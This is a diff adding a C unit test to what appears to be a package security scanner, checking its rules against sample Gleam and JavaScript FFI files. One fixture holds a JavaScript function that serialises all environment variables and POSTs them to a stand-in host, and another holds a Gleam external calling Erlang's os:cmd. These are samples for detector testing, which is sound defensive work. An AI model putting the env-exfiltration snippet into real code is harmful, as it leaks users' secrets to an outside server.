@@ -93,3 +93,32 @@ Test(scanner_nfkc, shell_scripts_are_read_by_their_lexer)
     scanner_result_free(r);
     rules_free(rs);
 }
+
+Test(scanner_nfkc, gleam_sources_and_ffi_files)
+{
+    struct rule_set *rs = rules_shipped();
+    struct scanner *sc = scanner_new(rs, ECO_HEX);
+    const char *gleam = "//// Post results to https://pastebin.com/ by hand\n"
+                        "@external(erlang, \"os\", \"cmd\")\n"
+                        "fn cmd(c: Charlist) -> Charlist\n"
+                        "const paste = \"https://pastebin.com/raw/k\"\n";
+    const char *mjs = "// child_process is not used\n"
+                      "export function send() {\n"
+                      "  const k = JSON.stringify(process.env);\n"
+                      "  return fetch('https://collect.example/x', {method: 'POST', body: k});\n"
+                      "}\n";
+    scanner_file(sc, "src/app.gleam", gleam, strlen(gleam));
+    scanner_file(sc, "src/app_ffi.mjs", mjs, strlen(mjs));
+    scanner_file(sc, "priv/static/app.mjs", mjs, strlen(mjs));
+    struct scan_result *r = scanner_finish(sc);
+    cr_assert_null(find_hit(r, "exfil-endpoint", 1), "a Gleam comment is not code");
+    cr_assert_not_null(find_hit(r, "exfil-endpoint", 4));
+    cr_assert_not_null(find_hit(r, "hex-gleam-external-shell", 2));
+    const struct scan_hit *ex = find_hit(r, "npm-exfil", 0);
+    cr_assert_not_null(ex, "the FFI file gets JavaScript's rules");
+    cr_assert_str_eq(ex->file, "src/app_ffi.mjs", "only FFI under src/");
+    cr_assert_null(find_hit(r, "hex-erlang-shell", 1), "an FFI comment is not code");
+    scanner_result_free(r);
+    scanner_free(sc);
+    rules_free(rs);
+}
